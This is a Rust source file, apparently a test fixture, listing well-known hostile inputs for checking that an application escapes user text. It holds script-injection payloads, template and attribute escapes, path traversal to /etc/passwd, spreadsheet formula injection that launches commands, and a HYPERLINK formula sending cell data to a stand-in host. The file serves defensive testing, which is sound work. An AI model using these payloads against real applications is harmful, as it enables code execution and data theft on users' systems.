//! What attackers, accidents and languages put into names, notes, texts and files.

/// Well-known payloads, one of each kind. A script that runs sets `window.attacked`.
pub(crate) const PAYLOADS: &[&str] = &[
    // Elements that run something.
    "<script>window.attacked='script'</script>",
    "</script><script>window.attacked='closed script'</script>",
    "<img src=x onerror=\"window.attacked='image'\">",
    "<svg onload=window.attacked='svg'>",
    "<svg><script>window.attacked='svg script'</script></svg>",
    "<iframe srcdoc=\"<script>parent.attacked='frame'</script>\"></iframe>",
    "<details open ontoggle=window.attacked='details'>x</details>",
    "<body onpageshow=window.attacked='body'>",
    "<input autofocus onfocus=window.attacked='input'>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.attacked='math'>",
    "<a href=\"javascript:window.attacked='link'\">x</a>",
    "javascript:window.attacked='address'",
    "data:text/html,<script>window.attacked='data'</script>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.attacked='refresh'\">",
    "<base href=//evil.invalid/><form action=//evil.invalid/><button>x</button></form>",
    // Ways out of an attribute, a comment, a template, a string, a style.
    "\" onmouseover=\"window.attacked='double quote'\" x=\"",
    "' onfocus='window.attacked=1' autofocus x='",
    "--><img src=x onerror=window.attacked='comment'><!--",
    "]]><img src=x onerror=window.attacked='cdata'>",
    "{{constructor.constructor('window.attacked=1')()}} ${window.attacked=1} <%= 1 %>",
    "\\\";window.attacked='string';//",
    "</textarea></title></style></noscript><img src=x onerror=window.attacked='raw text'>",
    "x;background:url(//evil.invalid/css);}*{display:none}",
    "</style><style>*{display:none!important}",
    "&lt;img src=x onerror=window.attacked='entity'&gt; &#60;b&#62; &amp;lt;",
    "<\u{0}script>window.attacked='nul'</\u{0}script>",
    "＜script＞window.attacked='full width'＜/script＞",
    // Letters that change what is around them.
    "\u{202e}txt.exe\u{202c} \u{2066}isolated \u{200f}\u{061c}",
    "a\u{0}b\u{7}c\u{1b}[31md\u{feff}e\u{fffe}",
    "Z\u{0351}\u{036b}\u{0343}\u{036a}\u{0302}\u{0315}\u{0358}\u{0345}a\u{0344}\u{0300}\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}\u{0307}\u{0308}\u{0309}\u{030a}\u{030b}\u{030c}\u{030d}lgo",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇺🇦 é ﷽",
    "line\u{2028}separator\u{2029}paragraph\u{85}next",
    "../../../../etc/passwd\\..\\CON.txt",
    // Cells that want to be formulas.
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"x\")",
    "\",=1+1,\"",
    "x\n=1+1",
    "x;=1+1",
    "'=1+1",
];

/// A word that no line has room for.
pub(crate) fn endless_word() -> String {
    "Donaudampfschifffahrtsgesellschaft".repeat(30)
}
